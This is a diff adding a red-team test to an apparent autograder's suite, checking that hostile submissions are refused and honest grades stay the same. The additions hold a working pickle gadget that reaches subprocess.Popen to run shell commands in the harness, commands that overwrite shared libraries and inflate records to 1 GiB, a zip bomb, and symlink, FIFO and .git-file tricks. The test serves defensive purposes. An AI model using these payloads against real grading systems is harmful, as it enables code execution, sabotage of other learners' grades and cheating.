@@ -8,6 +8,10 @@ Every honest grade must be the same (results.json without the node's load and th
 seconds), the first grading's folder and a file outside any grading byte-identical, and
 each attacker graded, with a verdict whose message says what stopped it.
 
+A second grading plants what attacks the grader's intake instead (issue 55): submissions
+that are links, FIFOs, zip bombs, `.git` files, ids that are not names, and a pickle that
+reaches the harness to poison the node's module cache and bomb the record.
+
 Each attack runs at the import of the learner's module, in the learner's worker, and
 lets the error that stopped it through (a real attacker would swallow it; the grade's
 message then shows what the sandbox said). A path the attacker should not reach is
@@ -261,3 +265,151 @@ def test_planted_attacks_change_no_other_grade_and_each_attacker_is_told_why(
         assert any(cause in said for cause in causes), (name, causes, said[-3000:])
     fake = json.loads((second / "fake_grade" / "grading.json").read_text())
     assert fake["katas"][0]["tasks"] == {"matmul_graph": "failed", "matmul_relu_graph": "failed"}
+
+
+#: What the learner's worker sends the harness instead of its answer: the pickle of issue
+#: 55, whose dotted name (protocol 4) reaches subprocess.Popen from an allowed module, and
+#: runs {command} with the harness's rights (items 1-2 of the issue close this door; the
+#: planted cache and record attacks below are what such a door let through).
+GADGET = """
+import gc, multiprocessing.connection, os, struct
+
+def _text(s):
+    b = s.encode()
+    return b"X" + struct.pack("<I", len(b)) + b
+
+payload = (b"\\x80\\x04" + _text("ok") + _text("xtc_katas.measure.module_cache")
+           + _text("subprocess.Popen") + b"\\x93](" + _text("sh") + _text("-c")
+           + _text({command!r}) + b"e\\x85R\\x86.")
+fired = os.path.exists("/tmp/fired")  # once per kata: the sandbox's /tmp, the harness's too
+open("/tmp/fired", "w").close()
+for found in gc.get_objects() if not fired else []:
+    if isinstance(found, multiprocessing.connection.Connection) and not found.closed:
+        try:
+            found.send_bytes(payload)
+        except OSError:
+            pass
+"""
+#: Every shared library of the module caches the run can see, replaced (the honest
+#: learner graded next loaded the poisoned host runtime, and failed); and the run's
+#: record made a sparse 1 GiB file, read whole by the grader outside the sandbox.
+POISON = "for f in $(find /grading-cache /grading -name '*.so'); do printf x > $f; done"
+RECORD_BOMB = "truncate -s 1G /grading/*.jsonl"
+
+
+def intake_class(subs: Path, other_repo: Path) -> dict[str, tuple[str, tuple[str, ...]]]:
+    """The submissions that attack the grader's intake, each made in `subs`: name ->
+    (its path, what its grade must say)."""
+    import os
+    import zipfile
+
+    stub = f"katas/{GRAPH.id}/graph.py"
+    solved = planted.partly_solved(GRAPH)
+    made: dict[str, tuple[str, tuple[str, ...]]] = {}
+    for name, command in (("poison", POISON), ("record_bomb", RECORD_BOMB)):
+        code = GADGET.format(command=command).strip() + "\n\n" + solved
+        made[name] = (str(planted.write(subs / name, {GRAPH.id: code})), ())
+    links = {"link": "/proc/self/cwd/solutions/02_graph/graph.py", "zero": "/dev/zero",
+             "abslink": str(GRAPH.solution_path(ROOT))}  # fmt: skip
+    for name, target in links.items():
+        folder = planted.write(subs / name, {GRAPH.id: solved})
+        (folder / stub).unlink()
+        (folder / stub).symlink_to(target)
+        made[name] = (str(folder), (f"{stub} is a symbolic link, not a regular file",))
+    fifo = planted.write(subs / "fifo", {GRAPH.id: solved})
+    (fifo / stub).unlink()
+    os.mkfifo(fifo / stub)
+    made["fifo"] = (str(fifo), (f"{stub} is a FIFO (named pipe)",))
+    pointer = subs / "gitfile"
+    (pointer / "katas").mkdir(parents=True)
+    (pointer / ".git").write_text(f"gitdir: {other_repo / '.git'}\n")
+    made["gitfile"] = (str(pointer), ('.git is a file ("gitdir: ...")',))
+    with zipfile.ZipFile(subs / "bomb.zip", "w", zipfile.ZIP_DEFLATED) as archive:
+        with archive.open(stub, "w", force_zip64=True) as member:
+            for _ in range(16):  # 1 GiB of zeros, in a 1 MiB zip
+                member.write(bytes(64 << 20))
+    made["bomb"] = (str(subs / "bomb.zip"), ("is 1024.0 MiB, over the 1.0 MiB",))
+    untouched = GRAPH.stub_path(ROOT).read_text()
+    with zipfile.ZipFile(subs / "...zip", "w") as archive:
+        archive.writestr(stub, untouched)
+    made["submission"] = (str(subs / "...zip"), ("the id '..' (from",))
+    planted.write(subs / "bob", {GRAPH.id: untouched})
+    with zipfile.ZipFile(subs / "bob.zip", "w") as archive:
+        archive.writestr(stub, untouched)
+    made["bob"] = (str(subs / "bob"), ("id collision: 2 submissions are 'bob'",))
+    made["bob-2"] = (str(subs / "bob.zip"), ("id collision: 2 submissions are 'bob'",))
+    made["copy"] = (str(planted.write(subs / "copy", {GRAPH.id: solved})), ())
+    return made
+
+
+@pytest.mark.slow
+@pytest.mark.perf  # graded alone on the node, as the other red team test
+@pytest.mark.timeout(900)  # two gradings, 16 submissions: 135 s at load 3, twice at load 8
+def test_planted_intake_attacks_are_refused_with_a_cause_and_change_no_other_grade(
+    tmp_path: Path,
+) -> None:
+    """Issue 55's cache poison, links to the reference and to /dev/zero, a FIFO, a `.git`
+    file naming another learner's repository, a zip bomb, a record bomb and ids that are
+    not names, graded with two honest learners through the real LocalCluster: the honest
+    grades are those they get alone, and every attacker's grade says what stopped it."""
+    import csv
+    import subprocess
+
+    subs = tmp_path / "subs"
+    honest = {
+        "right": planted.partly_solved(GRAPH),
+        "half": planted.partly_solved(GRAPH, {"matmul_graph"}),
+    }
+    for name, source in honest.items():
+        planted.write(subs / name, {GRAPH.id: source})
+    alone, together = tmp_path / "alone", tmp_path / "out" / "together"
+    outcome = grade_class([submissions.Entry(str(subs / n)) for n in honest], alone, [GRAPH])
+    assert sorted(outcome.graded) == sorted(honest) and not outcome.grader_errors
+    other = planted.write(tmp_path / "other", {GRAPH.id: honest["right"]})
+    for args in (["init", "-q"], ["add", "-A"], ["-c", "user.name=o", "-c", "user.email=o@o",
+                 "commit", "-qm", "mine"]):  # fmt: skip
+        subprocess.run(["git", "-C", str(other), *args], check=True, capture_output=True)
+    attackers = intake_class(subs, other)
+    # the record bomb's own cause, or the harness's refusal of the gadget (issue 55, item 1)
+    attackers["record_bomb"] = (attackers["record_bomb"][0], ())
+    cut = ("the run's record was read up to its first 16 MiB", "the process boundary")
+    poison, bomb = attackers.pop("poison"), attackers.pop("record_bomb")
+    entries = [submissions.Entry(poison[0]), submissions.Entry(bomb[0])]  # before the honest
+    entries += [submissions.Entry(str(subs / n)) for n in honest]
+    entries += [submissions.Entry(path) for path, _ in attackers.values()]
+    attackers.update(poison=poison, record_bomb=bomb)
+    started = time.monotonic()
+    outcome = grade_class(entries, together, [GRAPH], timeout=300)
+    print(f"{len(entries)} submissions graded in {time.monotonic() - started:.0f} s")
+
+    assert not outcome.grader_errors, outcome
+    for name in honest:
+        graded = [
+            json.loads((out / name / "results.json").read_text()) for out in (alone, together)
+        ]
+        assert stable(graded[0]) == stable(graded[1]), name
+    assert not (tmp_path / "out" / "grading.json").exists()  # nothing above --out
+    for name, (_, causes) in attackers.items():
+        doc = json.loads((together / name / "grading.json").read_text())
+        kata = doc["katas"][0]
+        said = doc["message"] + kata["cause"] + "".join(t["message"] for t in doc["tests"])
+        print(f"{name:12} {kata['verdict']:13} {said[:150]!r}")
+        assert doc["grading_status"] == "graded", name
+        if name == "copy":  # right's work under another id: graded as right's, and flagged
+            assert (
+                stable(json.loads((together / name / "results.json").read_text()))["tests"]
+                == stable(json.loads((together / "right" / "results.json").read_text()))["tests"]
+            )
+            continue
+        # the gadgets' code is the solution: the answer the gadget stood in for failed its test
+        assert kata["tasks_passed"] < len(kata["tasks"]), name
+        assert kata["tasks_passed"] == 0 or name in ("poison", "record_bomb"), name
+        assert kata["verdict"] in ("refused", "missing", "not attempted", "failed", "crashed")
+        assert all(cause in said for cause in causes), (name, causes, said)
+        assert name != "record_bomb" or any(c in said for c in cut), said
+    with (together / "class.csv").open() as handle:
+        flags = {row["id"]: row["flags"] for row in csv.DictReader(handle)}
+    assert "id collision" in flags["bob"] and "id collision" in flags["bob-2"]
+    assert "the same submission as copy" in flags["right"], flags
+    assert "the same submission as right" in flags["copy"]
+    assert "the same submission as" in (together / "class.html").read_text()
